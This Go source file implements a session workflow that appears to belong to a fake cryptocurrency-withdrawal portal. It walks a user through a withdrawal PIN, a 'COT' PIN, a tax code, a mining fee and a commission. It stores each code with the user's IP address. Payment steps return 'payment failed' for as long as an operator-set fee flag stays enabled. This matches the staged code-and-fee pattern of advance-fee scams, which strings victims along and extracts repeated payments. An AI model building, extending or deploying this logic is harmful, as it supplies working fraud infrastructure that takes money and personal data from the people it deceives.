// Package workflow drives a session through the fixed verification and
// fee-payment steps.
package workflow

import (
	"context"
	"fmt"
	"log"
	"os"
	"time"

	"github.com/wixxidevelop/blue/internal/models"
	"github.com/wixxidevelop/blue/pkg/messaging"
)

// Action names accepted from the user surface
type Action string

const (
	ActionVerifyPin     Action = "verify_pin"
	ActionVerifyCot     Action = "verify_cot"
	ActionVerifyTax     Action = "verify_tax"
	ActionPayMiningFee  Action = "pay_mining_fee"
	ActionPayCommission Action = "pay_commission"
	ActionStartNew      Action = "start_new"
)

// SettingsSource provides the current validation rules
type SettingsSource interface {
	Get(ctx context.Context) (*models.Settings, error)
}

// StatusSource reports whether the portal accepts transitions
type StatusSource interface {
	IsActive(ctx context.Context) (bool, error)
}

// RecordAppender stores completed transactions
type RecordAppender interface {
	Append(ctx context.Context, record models.TransactionRecord) error
}

// Request is one user submission
type Request struct {
	Action     Action
	Pin        string
	CotPin     string
	TaxCode    string
	RemoteAddr string
}

// Outcome describes what a submission did to the session
type Outcome struct {
	Offline bool
	Changed bool
	Err     *ValidationError
	Record  *models.TransactionRecord
}

// Service is the transaction workflow state machine. It holds no session
// state of its own; callers pass the session in on every call.
type Service struct {
	settings  SettingsSource
	status    StatusSource
	records   RecordAppender
	publisher messaging.Publisher
	now       func() time.Time
	logger    *log.Logger
}

// NewService creates a new workflow service
func NewService(settings SettingsSource, status StatusSource, records RecordAppender, publisher messaging.Publisher) *Service {
	if publisher == nil {
		publisher = messaging.NopPublisher{}
	}
	return &Service{
		settings:  settings,
		status:    status,
		records:   records,
		publisher: publisher,
		now:       time.Now,
		logger:    log.New(os.Stderr, "[workflow] ", log.LstdFlags),
	}
}

// WithClock overrides the time source used for record timestamps
func (s *Service) WithClock(now func() time.Time) *Service {
	s.now = now
	return s
}

// Handle applies req to state. Validation failures are reported in the
// outcome; a returned error means a document could not be read or written,
// and in that case state is left as it was.
func (s *Service) Handle(ctx context.Context, state *models.SessionState, req Request) (*Outcome, error) {
	active, err := s.status.IsActive(ctx)
	if err != nil {
		return nil, err
	}
	if !active {
		return &Outcome{Offline: true}, nil
	}

	if req.Action == ActionStartNew {
		state.Reset()
		return &Outcome{Changed: true}, nil
	}

	switch {
	case state.Step == models.StepPinEntry && req.Action == ActionVerifyPin:
		return s.verify(ctx, state, req.Pin, (*models.Settings).HasWithdrawalPin, MsgInvalidWithdrawalPin,
			func(d *models.StepData, v string) { d.WithdrawalPin = v })

	case state.Step == models.StepCotEntry && req.Action == ActionVerifyCot:
		return s.verify(ctx, state, req.CotPin, (*models.Settings).HasCotPin, MsgInvalidCotPin,
			func(d *models.StepData, v string) { d.CotPin = v })

	case state.Step == models.StepTaxEntry && req.Action == ActionVerifyTax:
		return s.verify(ctx, state, req.TaxCode, (*models.Settings).HasTaxCode, MsgInvalidTaxCode,
			func(d *models.StepData, v string) { d.TaxCode = v })

	case state.Step == models.StepFeePayment && req.Action == ActionPayMiningFee:
		settings, err := s.settings.Get(ctx)
		if err != nil {
			return nil, err
		}
		if settings.Fees.MiningFee.Enabled {
			return rejected(state.Step, MsgPaymentFailed), nil
		}
		state.Advance(models.StepCommissionPayment)
		return &Outcome{Changed: true}, nil

	case state.Step == models.StepCommissionPayment && req.Action == ActionPayCommission:
		return s.complete(ctx, state, req.RemoteAddr)
	}

	// actions aimed at another step are ignored
	return &Outcome{}, nil
}

func (s *Service) verify(
	ctx context.Context,
	state *models.SessionState,
	value string,
	accept func(*models.Settings, string) bool,
	message string,
	store func(*models.StepData, string),
) (*Outcome, error) {
	settings, err := s.settings.Get(ctx)
	if err != nil {
		return nil, err
	}
	if !accept(settings, value) {
		return rejected(state.Step, message), nil
	}

	next, _ := state.Step.Next()
	store(&state.Data, value)
	state.Advance(next)
	return &Outcome{Changed: true}, nil
}

func (s *Service) complete(ctx context.Context, state *models.SessionState, remoteAddr string) (*Outcome, error) {
	settings, err := s.settings.Get(ctx)
	if err != nil {
		return nil, err
	}
	if settings.Fees.Commission.Enabled {
		return rejected(state.Step, MsgPaymentFailed), nil
	}

	record := models.TransactionRecord{
		Timestamp:     s.now().UTC().Format(time.RFC3339),
		WithdrawalPin: state.Data.WithdrawalPin,
		CotPin:        state.Data.CotPin,
		TaxCode:       state.Data.TaxCode,
		MiningFee:     settings.Fees.MiningFee.Amount,
		Commission:    settings.Fees.Commission.Amount,
		IP:            remoteAddr,
	}
	if err := s.records.Append(ctx, record); err != nil {
		return nil, fmt.Errorf("failed to record transaction: %w", err)
	}
	state.Advance(models.StepCompleted)

	s.logger.Printf("transaction completed pin=%s cot=%s ip=%s",
		models.MaskPin(record.WithdrawalPin), models.MaskPin(record.CotPin), record.IP)
	s.publish(ctx, messaging.EventTypeTransactionCompleted, messaging.TransactionCompletedEvent{
		Timestamp:  record.Timestamp,
		TaxCode:    record.TaxCode,
		MiningFee:  record.MiningFee,
		Commission: record.Commission,
		IP:         record.IP,
	})

	return &Outcome{Changed: true, Record: &record}, nil
}

// Navigate moves the session to the step named by raw. Unknown names,
// steps beyond the furthest one reached, and any move away from the
// completed step are ignored. Returns whether the step changed.
func (s *Service) Navigate(ctx context.Context, state *models.SessionState, raw string) (bool, error) {
	target, ok := models.ParseStep(raw)
	if !ok || target == state.Step {
		return false, nil
	}

	active, err := s.status.IsActive(ctx)
	if err != nil {
		return false, err
	}
	if !active {
		return false, nil
	}

	if state.Step == models.StepCompleted {
		return false, nil
	}
	if target.Index() > state.Furthest.Index() {
		return false, nil
	}

	state.Step = target
	state.UpdatedAt = s.now()
	return true, nil
}

func (s *Service) publish(ctx context.Context, eventType string, data interface{}) {
	event, err := messaging.NewEvent(eventType, data)
	if err != nil {
		s.logger.Printf("failed to build %s event: %v", eventType, err)
		return
	}
	if err := s.publisher.Publish(ctx, event); err != nil {
		s.logger.Printf("failed to publish %s event: %v", eventType, err)
	}
}

func rejected(step models.StepID, message string) *Outcome {
	return &Outcome{Err: &ValidationError{Step: step, Message: message}}
}
